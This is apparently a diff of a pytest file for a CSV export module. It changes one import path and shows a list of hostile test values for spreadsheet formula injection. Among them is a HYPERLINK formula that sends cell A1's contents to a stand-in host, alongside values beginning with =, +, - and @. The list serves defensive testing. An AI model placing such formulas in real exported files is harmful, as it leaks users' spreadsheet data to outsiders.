@@ -6,7 +6,7 @@ import csv
 
 import pytest
 
-from assistant.store_export import COLUMNS, write_records
+from assistant.store.export import COLUMNS, write_records
 from assistant.textsafe import printable, spreadsheet_text
 
 HOSTILE = ['=HYPERLINK("http://example.invalid/?"&A1,"点击")', "=100%", "+86 1234", "-5万元", "@SUM(A1)",
